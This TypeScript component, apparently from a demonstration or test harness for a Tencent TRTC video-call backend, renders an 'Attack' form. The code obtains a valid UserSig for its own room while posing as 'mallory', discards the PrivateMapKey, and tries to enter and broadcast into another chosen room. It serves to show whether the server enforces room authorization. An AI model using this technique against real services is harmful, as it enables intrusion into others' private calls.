/** Somebody with an honest ticket to one room, who walks into another, and onto its stage. */
import { useState } from 'preact/hooks';
import type { Ticket } from '../../../../miniprogram/trtc/contract/usersig';
import { openIDOf } from '../../person';
import type { FromServer } from '../../trtc/protocol';
import { fill, type Texts } from '../texts';

const OWN_ROOM = 4_000_000_000;

export function Attack({ texts }: { readonly texts: Texts }) {
  const [room, setRoom] = useState('42');
  const [outcome, setOutcome] = useState('');
  const go = async (): Promise<void> => {
    setOutcome('…');
    const answer = await attack(room);
    if (answer.type === 'entered') {
      const count = answer.others.length;
      setOutcome(fill(texts.attackEntered, { room, count }));
    } else if (answer.type === 'refused') {
      setOutcome(fill(texts.attackRefused, { room, code: answer.code }));
    }
  };
  return (
    <form
      class="attack"
      onSubmit={(submitted) => {
        submitted.preventDefault();
        void go();
      }}
    >
      <h2>{texts.attackTitle}</h2>
      <p>{texts.attackText}</p>
      <div>
        <input
          maxLength={64}
          aria-label={texts.room}
          value={room}
          onInput={(event) => setRoom(event.currentTarget.value.replaceAll(/[^A-Za-z0-9_-]/g, ''))}
        />
        <button type="submit" disabled={room === ''}>
          {texts.attackDo}
        </button>
      </div>
      {outcome !== '' && (
        <p class="outcome" role="status">
          {outcome}
        </p>
      )}
    </form>
  );
}

const SEND_MS = 1500;

/** Takes an own ticket, throws its PrivateMapKey away, enters `room` with the UserSig, and sends there for a moment. */
async function attack(room: string): Promise<FromServer> {
  const response = await fetch('/cloud/usersig', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'X-WX-OPENID': openIDOf('mallory') },
    body: JSON.stringify({ room: { roomID: OWN_ROOM }, mode: 'videoCall' }),
  });
  const { result } = (await response.json()) as { result: { data: Ticket } };
  const { sdkAppID, userID, userSig } = result.data;
  const name = /^\d+$/.test(room) ? 'roomid' : 'strroomid';
  const scene = /^[va]l-/.test(room) ? 'live' : 'videocall';
  const url = `room://cloud.tencent.com/rtc?sdkappid=${sdkAppID}&${name}=${room}&userid=${userID}&usersig=${userSig}&appscene=${scene}&privatemapkey=`;
  return new Promise((resolve) => {
    const address = new URL('/rooms', location.href);
    address.protocol = address.protocol.replace('http', 'ws');
    const socket = new WebSocket(address);
    socket.onopen = () => socket.send(JSON.stringify({ type: 'enter', url }));
    socket.onmessage = ({ data }) => {
      socket.onmessage = null;
      const answer = JSON.parse(String(data)) as FromServer;
      const isIn = answer.type === 'entered';
      if (isIn) socket.send(JSON.stringify({ type: 'publish', audio: true, video: true }));
      setTimeout(
        () => {
          socket.send(JSON.stringify({ type: 'leave' }));
          socket.close();
          resolve(answer);
        },
        isIn ? SEND_MS : 0,
      );
    };
  });
}
